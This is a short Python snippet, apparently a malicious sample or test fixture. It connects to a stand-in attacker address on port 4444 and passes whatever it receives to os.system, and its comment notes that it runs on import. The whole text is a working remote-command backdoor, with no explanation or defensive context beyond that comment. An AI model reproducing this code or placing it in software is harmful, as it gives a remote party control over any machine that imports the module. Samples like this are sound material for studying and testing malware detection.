import os, socket
link = socket.socket()
link.connect(("192.0.2.1", 4444))
os.system(link.recv(1024).decode())  # fires: import
